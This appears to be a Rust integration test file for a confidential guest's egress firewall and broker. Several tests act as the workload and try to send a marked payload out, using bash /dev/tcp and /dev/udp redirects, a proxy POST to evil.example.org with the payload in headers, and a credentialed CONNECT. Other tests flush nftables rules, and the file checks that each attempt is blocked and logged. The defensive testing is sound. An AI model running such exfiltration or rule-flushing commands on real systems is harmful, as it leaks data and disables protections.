//! `confide-guest boot` on the simulated platform, as a process in a network of its own.
#![cfg(feature = "danger-simulator")]
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::print_stdout, reason = "tests")]
#![allow(dead_code, reason = "shared with other tests")]

mod harness;

use std::io::{BufRead as _, BufReader, Lines};
use std::net::SocketAddr;
use std::os::fd::AsFd as _;
use std::os::unix::fs::PermissionsExt as _;
use std::process::{Child, ChildStdout, Command, Stdio};
use std::time::{Duration, Instant};

use harness::{Connection, Installation, PATIENCE, model_files, program, signal};
use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};
use serde_json::Value;

const POLICY: &str = "[egress]\ninline = '''\nformat = \"confide-egress-policy/1\"\nname = \"test\"\nlog = \"drops\"\n\
    [[bootstrap]]\ncidr = \"198.51.100.0/24\"\nports = [80]\nprotocol = \"tcp\"\n\
    [[serving]]\ncidr = \"198.51.100.0/24\"\nports = [80]\nprotocol = \"tcp\"\n'''\n";
/// The bits of CAP_NET_ADMIN, by which rules are changed, and of CAP_NET_RAW, by which frames are written that pass no hook of IP or ARP
/// (capabilities(7), `linux/capability.h`).
const PAST_RULES: u64 = 1 << 12 | 1 << 13;
/// The engine's user (`docs/boot.md`).
const WORKLOAD_USER: u32 = 1000;
/// What no log may hold: a workload's payload.
const PAYLOAD: &str = "zq7-marked-payload";

/// A guest that serves, in a network of its own.
struct Booted {
    child: Child,
    console: Lines<BufReader<ChildStdout>>,
    steps: Vec<String>,
    /// Where it serves, in its own network.
    address: Option<SocketAddr>,
    /// Its status socket, where its tables name one.
    socket: std::path::PathBuf,
    installation: Installation,
}

impl Drop for Booted {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Whether this machine lets a test boot.
fn can_boot() -> bool {
    let probe = "nft list ruleset && test \"$(id -u)\" = 0 && setpriv --reuid=990 true";
    let probe = Command::new("unshare").args(["-n", "sh", "-c", probe]).output();
    let can = probe.as_ref().is_ok_and(|output| output.status.success());
    if !can {
        println!("not run: a boot in a network of its own: it takes root and nft: {probe:?}");
    }
    can
}

impl Booted {
    fn start(tables: &str) -> Self {
        let installation = Installation::new(&model_files(7), tables);
        // The engine is another user.
        let folder = installation.model().parent().unwrap().to_owned();
        std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o755)).unwrap();
        let log = std::fs::File::create(installation.log()).unwrap();
        let mut command = Command::new("unshare");
        command.arg("-n").arg(program().get_program()).arg("boot");
        command.arg("--config").arg(installation.config()).stdout(Stdio::piped()).stderr(log);
        let mut child = command.spawn().unwrap();
        let console = BufReader::new(child.stdout.take().unwrap()).lines();
        let mut booted = Self {
            child,
            console,
            steps: Vec::new(),
            address: None,
            socket: std::path::PathBuf::new(),
            installation,
        };
        loop {
            let line = booted.line();
            match line["event"].as_str().unwrap() {
                "boot" => booted.steps.push(line["step"].as_str().unwrap().to_owned()),
                "ready" => {
                    let address = line["listen"].as_str().unwrap().strip_prefix("https://").unwrap();
                    booted.address = Some(address.parse().unwrap());
                    return booted;
                }
                _ => panic!("{line}\n{}", booted.log()),
            }
        }
    }

    /// The next line of the console.
    fn line(&mut self) -> Value {
        let line = self.console.next().unwrap_or_else(|| panic!("it ended: {}", self.log())).unwrap();
        serde_json::from_str(&line).unwrap()
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.installation.log()).unwrap()
    }

    /// Waits until the log has this.
    fn logs(&self, text: &str) -> bool {
        let begun = Instant::now();
        while begun.elapsed() < PATIENCE {
            if self.log().contains(text) {
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        false
    }

    /// The child that was started with this argument.
    fn child(&self, argument: &str) -> Option<u32> {
        let tasks = std::fs::read_dir(format!("/proc/{}/task", self.child.id())).unwrap();
        let children: String = tasks
            .map(|task| std::fs::read_to_string(task.unwrap().path().join("children")).unwrap_or_default())
            .collect();
        let mut children = children.split_whitespace().map(|pid| pid.parse::<u32>().unwrap());
        children.find(|pid| {
            let arguments = std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            arguments.split('\0').nth(1) == Some(argument)
        })
    }

    /// Does something as a client in the guest's own network, with a connection of its own to the guest.
    fn ask<T: Send>(&self, ask: impl AsyncFnOnce(Connection) -> T + Send) -> T {
        let network = std::fs::File::open(format!("/proc/{}/ns/net", self.child.id())).unwrap();
        let address = self.address.unwrap();
        let client = || {
            // A thread that is gone afterwards: it stays there.
            move_into_link_name_space(network.as_fd(), Some(LinkNameSpaceType::Network)).unwrap();
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
            runtime.block_on(async { ask(Connection::open(address).await).await })
        };
        std::thread::scope(|scope| scope.spawn(client).join().unwrap())
    }

    /// What `egress status` says.
    fn status(&self, words: &[&str]) -> String {
        let mut command = program();
        command.args(["egress", "status", "--socket"]).arg(&self.socket).args(words);
        let output = command.output().unwrap();
        assert!(output.status.success(), "{output:?}");
        String::from_utf8(output.stdout).unwrap()
    }

    fn report(&self) -> Value {
        serde_json::from_str(&self.status(&["--json"])).unwrap()
    }

    /// The report once this holds of it.
    fn report_when(&self, holds: impl Fn(&Value) -> bool) -> Value {
        let begun = Instant::now();
        loop {
            let report = self.report();
            if holds(&report) {
                return report;
            }
            assert!(begun.elapsed() < PATIENCE, "{report:#}\n{}", self.log());
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// What the guest says last, and its exit status.
    fn end(&mut self) -> (Value, Option<i32>) {
        let last = self.line();
        (last, self.child.wait().unwrap().code())
    }
}

/// The network namespace of a process' first thread.
fn network(pid: u32) -> std::path::PathBuf {
    std::fs::read_link(format!("/proc/{pid}/ns/net")).unwrap()
}

/// The users and the capabilities of every thread of a process.
fn privileges(pid: u32) -> Vec<(String, Vec<u64>)> {
    let threads = std::fs::read_dir(format!("/proc/{pid}/task")).unwrap();
    let statuses =
        threads.map(|thread| std::fs::read_to_string(thread.unwrap().path().join("status")).unwrap());
    statuses
        .map(|status| {
            let field = |name: &str| {
                let value = status.lines().find_map(|line| line.strip_prefix(name)).unwrap();
                value.split_whitespace().next().unwrap().to_owned()
            };
            let sets = ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"];
            // Real, effective, saved and of files, and the same of its group.
            let ids = |name: &str| {
                status.lines().find_map(|line| line.strip_prefix(name)).unwrap().split_whitespace()
            };
            let user = field("Uid:");
            assert!(ids("Uid:").chain(ids("Gid:")).all(|id| id == user), "{status}");
            (user, sets.map(|set| u64::from_str_radix(&field(set), 16).unwrap()).to_vec())
        })
        .collect()
}

/// Whether every thread of a process is under a filter of system calls, and no program that it starts gets a privilege.
fn is_confined(pid: u32) -> bool {
    let threads = std::fs::read_dir(format!("/proc/{pid}/task")).unwrap();
    let mut statuses =
        threads.map(|thread| std::fs::read_to_string(thread.unwrap().path().join("status")).unwrap());
    statuses.all(|status| status.contains("\nSeccomp:\t2\n") && status.contains("\nNoNewPrivs:\t1\n"))
}

/// How many drops a report is about.
fn drops(report: &Value) -> u64 {
    let broker: u64 = report["broker"]["dropped"].as_object().unwrap().values().map(number).sum();
    let packets = number(&report["packets"]["guest"]) + number(&report["packets"]["workload"]);
    number(&report["refused_calls"]) + packets + broker
}

fn number(value: &Value) -> u64 {
    value.as_u64().unwrap_or_else(|| panic!("{value} is no number"))
}

/// The latest record of a part of a report.
fn latest<'a>(report: &'a Value, part: &str) -> &'a Value {
    let records = report[part]["latest"].as_array().unwrap();
    records.last().unwrap_or(&Value::Null)
}

/// Runs a script of the shell's in a process' network as the workload's user, with [`PAYLOAD`] in its environment.
fn as_workload(pid: u32, script: &str) {
    let mut command = Command::new("nsenter");
    command.args(["-t", &pid.to_string(), "-n", "setpriv", "--clear-groups"]);
    command.args([&format!("--reuid={WORKLOAD_USER}"), &format!("--regid={WORKLOAD_USER}")]);
    command.args(["timeout", "10", "bash", "-c", script]).env("PAYLOAD", PAYLOAD);
    command.stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
}

/// Runs a script in a process' network; whether it succeeds.
fn within(pid: u32, script: &str) -> bool {
    let mut command = Command::new("nsenter");
    command.args(["-t", &pid.to_string(), "-n", "sh", "-c", script]).stderr(Stdio::null());
    command.stdout(Stdio::null()).status().unwrap().success()
}

#[test]
fn a_boot_keeps_workload_and_broker_to_the_policy_and_nobody_can_change_it() {
    if !can_boot() {
        return;
    }
    let mut guest = Booted::start(POLICY);
    let expected = [
        "configuration-read",
        "egress-bootstrap",
        "network",
        "egress-broker",
        "measured",
        "no-volumes",
        "egress-locked",
        "dropped",
        "model",
        "devices",
        "open",
    ];
    assert_eq!(guest.steps, expected);
    let (pid, broker) = (guest.child.id(), guest.child("egress-broker").unwrap());
    let engine = guest.child("engine").unwrap();
    assert_eq!(network(broker), network(pid));
    assert_ne!(network(engine), network(pid));
    for (process, user) in [(pid, "991"), (broker, "990"), (engine, "1000")] {
        for (found, sets) in privileges(process) {
            assert_eq!(found, user);
            assert!(sets.iter().all(|set| set & PAST_RULES == 0), "{user}: {sets:x?}");
            assert!(user == "991" || sets[..3].iter().all(|set| *set == 0), "{user}: {sets:x?}");
        }
        assert!(is_confined(process), "{user}");
    }
    // The engine's network leads to the broker, and all else is dropped; both have records.
    assert!(within(engine, "nft list ruleset | grep -q 'redirect to :15001'"));
    assert!(within(pid, "nft list ruleset | grep -q 'skuid 990'"));
    within(engine, "timeout 5 bash -c 'exec 3<>/dev/tcp/1.2.3.4/443; cat <&3'");
    assert!(guest.logs("host_not_listed") && guest.logs("1.2.3.4:443/tcp"), "{}", guest.log());
    within(engine, "bash -c 'echo secret > /dev/udp/192.0.2.7/9'");
    assert!(guest.logs("packet_dropped") && guest.logs("192.0.2.7:9/udp"), "{}", guest.log());
    // What leaves the guest's own network is the broker's alone.
    assert!(!within(pid, "bash -c 'echo secret > /dev/udp/192.0.2.7/9'"));
    signal("TERM", pid);
    assert!(guest.child.wait().unwrap().success(), "{}", guest.log());
    let begun = Instant::now();
    while std::path::Path::new(&format!("/proc/{broker}/fd")).exists() && begun.elapsed() < PATIENCE {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert!(begun.elapsed() < PATIENCE, "the broker outlives its guest");
}

#[test]
fn what_a_locked_guest_drops_is_in_claims_metrics_and_status_and_no_payload_is_anywhere() {
    if !can_boot() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let socket = folder.path().join("status.sock");
    let tables = format!("{POLICY}[log]\nfilter = \"trace\"\n[status]\nsocket = \"{}\"\n", socket.display());
    let mut guest = Booted::start(&tables);
    guest.socket = socket;
    let engine = guest.child("engine").unwrap();
    let before = guest.report();
    assert_eq!((&before["mode"], drops(&before)), (&"locked".into(), 0), "{before:#}");
    let nobody = &Value::Null;
    assert_eq!((latest(&before, "broker"), latest(&before, "packets")), (nobody, nobody));
    // A packet, a redirected connection, and a request to the proxy whose every part holds what is nobody's to know.
    as_workload(engine, "echo $PAYLOAD > /dev/udp/192.0.2.7/9");
    as_workload(engine, "exec 3<>/dev/tcp/1.2.3.4/443; echo $PAYLOAD >&3; head -c 1 <&3");
    as_workload(
        engine,
        "exec 3<>/dev/tcp/127.0.0.1/3128
         printf 'POST http://evil.example.org/%s?%s HTTP/1.1\\r\\nHost: evil.example.org\\r\\nX-Mark: %s\\r\\n' $PAYLOAD $PAYLOAD $PAYLOAD >&3
         printf 'Authorization: Bearer %s\\r\\nContent-Length: %d\\r\\n\\r\\n%s' $PAYLOAD ${#PAYLOAD} $PAYLOAD >&3
         head -c 1 <&3",
    );
    as_workload(
        engine,
        "exec 3<>/dev/tcp/127.0.0.1/3128
         printf 'CONNECT %s:%s@refused.example.org:443 HTTP/1.1\\r\\n\\r\\n' $PAYLOAD $PAYLOAD >&3
         head -c 1 <&3",
    );
    let report = guest.report_when(|report| {
        let broker = &report["broker"]["dropped"];
        let packets = number(&report["packets"]["workload"]);
        number(&broker["host_not_listed"]) == 2 && number(&broker["proxy_request_form"]) == 1 && packets == 1
    });
    assert_eq!(drops(&report), 4, "{report:#}");
    let broker: Vec<_> = report["broker"]["latest"].as_array().unwrap().iter().map(told).collect();
    let packets: Vec<_> = report["packets"]["latest"].as_array().unwrap().iter().map(told).collect();
    let user = u64::from(WORKLOAD_USER);
    assert_eq!(packets, [("packet_dropped", "192.0.2.7:9/udp", "packet", Some(user))]);
    assert_eq!(
        broker,
        [
            ("host_not_listed", "1.2.3.4:443/tcp", "transparent", Some(user)),
            ("host_not_listed", "evil.example.org:80/tcp", "proxy", Some(user)),
            ("proxy_request_form", "refused.example.org:443", "proxy", Some(user)),
        ]
    );
    // What is claimed is what was counted.
    let document = guest.ask(async |mut connection| connection.attest(7).await.0);
    let changing = &document.claims.changing;
    assert_eq!((changing.drops, drops(&guest.report())), (4, 4), "{changing:?}");
    assert!(changing.locked_at.is_some_and(|at| at > 1_750_000_000), "{changing:?}");
    assert_eq!(report["locked_at"].as_u64(), changing.locked_at);
    let claimed = &document.claims.egress;
    assert_eq!(report["policy"].as_str().map(str::to_owned), claimed.policy.map(|digest| digest.to_string()));
    assert_eq!(
        report["ruleset"].as_str().map(str::to_owned),
        claimed.ruleset.map(|digest| digest.to_string())
    );
    let page = guest.ask(async |mut connection| connection.get("/metrics").await.body);
    let page = String::from_utf8(page).unwrap();
    for line in [
        "confide_egress_locked 1",
        "confide_egress_refused_calls_total 0",
        "confide_egress_dropped_packets_total{network=\"guest\"} 0",
        "confide_egress_dropped_packets_total{network=\"workload\"} 1",
        "confide_egress_dropped_total{code=\"host_not_listed\"} 2",
        "confide_egress_dropped_total{code=\"proxy_request_form\"} 1",
        "confide_egress_dropped_total{code=\"certificate_refused\"} 0",
    ] {
        assert!(page.lines().any(|said| said == line), "{line} is not in\n{page}");
    }
    // No payload is anywhere, though all of this tells of what carried it.
    let log = guest.log();
    let (text, json) = (guest.status(&[]), guest.status(&["--json"]));
    for (place, said) in [("log", &log), ("status", &text), ("status --json", &json), ("metrics", &page)] {
        assert!(!said.contains(PAYLOAD), "a payload is in {place}\n{said}");
    }
    for said in [&log, &text, &json] {
        for destination in ["192.0.2.7:9/udp", "1.2.3.4:443/tcp", "evil.example.org:80/tcp"] {
            assert!(said.contains(destination), "{destination} is not in\n{said}");
        }
    }
}

/// Code, destination, way and user of a record.
fn told(record: &Value) -> (&str, &str, &str, Option<u64>) {
    let text = |name: &str| record[name].as_str().unwrap();
    (text("code"), text("destination"), text("way"), record["uid"].as_u64())
}

#[test]
fn a_guest_ends_when_its_rules_change_or_its_broker_is_lost() {
    if !can_boot() {
        return;
    }
    type Change = fn(&Booted);
    let changes: [(&str, Change); 3] = [
        ("egress_rules_changed", |guest| assert!(within(guest.child.id(), "nft add table inet x"))),
        ("egress_rules_changed", |guest| {
            assert!(within(guest.child("engine").unwrap(), "nft flush ruleset"))
        }),
        ("egress_broker_lost", |guest| signal("KILL", guest.child("egress-broker").unwrap())),
    ];
    for (code, change) in changes {
        let mut guest = Booted::start(POLICY);
        change(&guest);
        let (last, status) = guest.end();
        assert_eq!((&last["event"], &last["code"]), (&"failed".into(), &code.into()), "{last}");
        assert!(last["action"].as_str().is_some_and(|action| !action.is_empty()), "{last}");
        assert_eq!(status, Some(1));
    }
}

#[test]
fn without_anything_to_let_through_no_broker_is_started() {
    if !can_boot() {
        return;
    }
    let guest = Booted::start("");
    assert!(!guest.steps.iter().any(|step| step == "egress-broker"), "{:?}", guest.steps);
    assert_eq!(guest.child("egress-broker"), None);
    let engine = guest.child("engine").unwrap();
    assert_ne!(network(engine), network(guest.child.id()));
    within(engine, "timeout 5 bash -c 'exec 3<>/dev/tcp/1.2.3.4/443'");
    assert!(guest.logs("packet_dropped") && guest.logs("1.2.3.4:443/tcp"), "{}", guest.log());
}
